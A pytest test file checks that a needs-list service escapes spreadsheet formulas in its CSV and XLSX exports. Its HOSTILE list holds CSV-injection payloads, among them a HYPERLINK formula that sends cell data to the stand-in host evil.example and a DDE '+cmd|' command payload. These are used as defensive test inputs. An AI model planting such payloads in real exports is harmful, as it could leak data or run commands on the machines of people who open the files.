"""Public needs-list exports never carry a spreadsheet formula (issue 17, item 5): a title like
=HYPERLINK(...) or +cmd|... is written as text in CSV and XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from yizhi.exports import safe_cell, unescape_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_escapes_and_unescape_restores(text):
    escaped = safe_cell(text)
    assert escaped.startswith("'") and unescape_cell(escaped) == text


def test_plain_values_and_numbers_pass_unchanged():
    assert safe_cell("胸片肺结节") == "胸片肺结节" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_needs_list_exports_hold_hostile_titles_as_text(api, cast):
    owner, admin = api(cast.owner), api(cast.admin)
    for title in HOSTILE[:4]:
        need = owner.post("/api/v1/needs", json={"title": title, "description": "x"}).json()
        assert owner.post(f"/api/v1/needs/{need['id']}/submit").status_code == 200
        assert admin.post(f"/api/v1/needs/{need['id']}/review", json={"decision": "approve"}).status_code == 200
    release = admin.post("/api/v1/needs/releases", json={"title": "=1+1 清单"}).json()
    exported = api().get(f"/api/v1/needs/releases/{release['id']}/export.csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {unescape_cell(row[2]) for row in rows[1:]} == set(HOSTILE[:4])

    workbook = load_workbook(io.BytesIO(api().get(f"/api/v1/needs/releases/{release['id']}/export.xlsx").content))
    sheet = workbook.active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
